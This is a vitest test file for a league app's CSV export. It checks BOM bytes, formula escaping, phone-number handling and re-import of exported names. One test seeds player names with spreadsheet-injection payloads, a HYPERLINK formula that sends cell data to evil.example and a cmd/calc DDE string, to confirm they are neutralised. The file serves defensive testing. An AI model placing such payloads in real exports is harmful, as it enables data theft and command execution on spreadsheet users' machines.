import Papa from 'papaparse';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../testing/test-app.js';
import { arrangeLeague } from '../../players/__tests__/arrange.js';

const t = useTestApp();

type League = Awaited<ReturnType<typeof arrangeLeague>>;

/** The body as the bytes a browser saves, not as text a client library already decoded. */
function download(league: League, query: Record<string, string>) {
  return request(t.app)
    .get('/api/teams/export/')
    .query({ division: league.division.id, ...query })
    .set(league.admin.auth)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
}

const rowsOf = (bytes: Buffer) => Papa.parse<string[]>(bytes.toString('utf8').replace(/^\uFEFF/, '').trim(), { skipEmptyLines: true }).data;

describe('exports Excel opens as written', () => {
  it.each([
    ['players, chosen columns', { scope: 'players' }],
    ['teams', { scope: 'teams' }],
    ['TeamSnap roster', { format: 'teamsnap' }],
    ['SportsEngine roster', { format: 'sportsengine' }],
  ])('when a %s export is downloaded, it starts with the UTF-8 byte-order mark', async (_, query) => {
    const league = await arrangeLeague(t.db);
    await league.addPlayer('Aoife O’Brien', 5, league.teamA.id);

    const res = await download(league, query);

    expect(res.status).toBe(200);
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).not.toMatch(/^\uFEFF\uFEFF/);
  });

  it('when a name starts with a hyphen, writes it as it is; a real formula gets the apostrophe', async () => {
    const league = await arrangeLeague(t.db);
    await league.addPlayer('Luis -Reyes', 5, league.teamA.id);
    await league.addPlayer('=HYPERLINK("http://evil.example/?"&A1,"Click")', 5, league.teamA.id);
    await league.addPlayer('-2+3+cmd|\' /C calc\'!A0', 5, league.teamA.id);
    await league.addPlayer('@SUM(A1:A9)', 5, league.teamA.id);

    const res = await download(league, { columns: 'player_full_name,player_last_name', column_labels: JSON.stringify({ player_last_name: '=Surname' }) });

    const rows = rowsOf(res.body as Buffer);
    expect(rows[0]).toEqual(['Full Name', "'=Surname"]);
    const byName = rows.slice(1).map(([full]) => full).sort();
    expect(byName).toEqual(["'-2+3+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(A1:A9)", 'Luis -Reyes'].sort());
    expect(rows.find(([full]) => full === 'Luis -Reyes')![1]).toBe('-Reyes');
  });

  it('when a phone number starts with +, the TeamSnap file keeps it without an apostrophe', async () => {
    const league = await arrangeLeague(t.db);
    await league.addPlayer('Mia Chen', 5, league.teamA.id, { additionalData: { 'Mobile Phone Number': '+1 (555) 010-0100' } });

    const res = await download(league, { format: 'teamsnap', include_contacts: 'true' });

    const [header, row] = rowsOf(res.body as Buffer);
    expect(row![header!.indexOf('Mobile phone')]).toBe('+1 (555) 010-0100');
  });

  it('when our own export is imported again, the names come back without the apostrophes it added', async () => {
    const league = await arrangeLeague(t.db);
    const names = ['Luis -Reyes', '=Lee Park', 'Aoife O’Brien', '+Ana Ruiz', "'-Old Export"];
    for (const name of names) await league.addPlayer(name, 5, league.teamA.id);
    const exported = await download(league, { columns: 'player_full_name', skill_ids: String(league.shooting.id) });

    let req = request(t.app).post('/api/players/balanced_teams/').set(league.admin.auth);
    const fields = {
      league_id: String(league.admin.leagueId),
      division_id: String(league.division.id),
      number_of_teams: '2',
      skill_mapping: JSON.stringify({ [league.shooting.id]: 'Shooting (0-10)' }),
      selected_skills: JSON.stringify([league.shooting.id]),
      seed: '7',
    };
    for (const [key, value] of Object.entries(fields)) req = req.field(key, value);
    const preview = await req.attach('file', exported.body as Buffer, { filename: 'players.csv', contentType: 'text/csv' });

    expect(preview.status).toBe(200);
    const imported = preview.body.data.results.flatMap((team: { players: { name: string }[] }) => team.players.map((p) => p.name));
    // The last was stored with an apostrophe before this rule: it keeps it, exactly as stored.
    expect(imported.sort()).toEqual([...names].sort());
  });

  it("when our own export is uploaded on Create Teams, every rating comes back on its skill's scale, unchanged", async () => {
    const league = await arrangeLeague(t.db);
    await league.addPlayer('Ana Ruiz', 7.5, league.teamA.id);
    await league.addPlayer('Ben Ode', 3, league.teamB.id);
    const skillIds = [league.shooting.id, league.defense.id];
    const exported = await download(league, { columns: 'player_full_name', skill_ids: skillIds.join(',') });
    const [header, ...rows] = rowsOf(exported.body as Buffer);

    let req = request(t.app).post('/api/players/balanced_teams/').set(league.admin.auth);
    const fields = {
      league_id: String(league.admin.leagueId),
      division_id: String(league.division.id),
      number_of_teams: '2',
      skill_mapping: JSON.stringify({ [league.shooting.id]: header![1], [league.defense.id]: header![2] }),
      selected_skills: JSON.stringify(skillIds),
      seed: '7',
    };
    for (const [key, value] of Object.entries(fields)) req = req.field(key, value);
    const preview = await req.attach('file', exported.body as Buffer, { filename: 'players.csv', contentType: 'text/csv' });

    expect(header).toEqual(['Full Name', 'Shooting (0-10)', 'Defense (0-5)']);
    expect(rows.sort()).toEqual([['Ana Ruiz', '7.5', '3.75'], ['Ben Ode', '3', '1.5']]);
    expect(preview.status).toBe(200);
    const players = preview.body.data.results.flatMap((team: { players: { name: string; ratings: Record<string, number> }[] }) => team.players);
    // The preview shows every rating on 0-10: Defense's 3.75 of 5 is 7.5.
    expect(players.find((p: { name: string }) => p.name === 'Ana Ruiz').ratings).toEqual({ [league.shooting.id]: 7.5, [league.defense.id]: 7.5 });
    expect(players.find((p: { name: string }) => p.name === 'Ben Ode').ratings).toEqual({ [league.shooting.id]: 3, [league.defense.id]: 3 });
  });
});
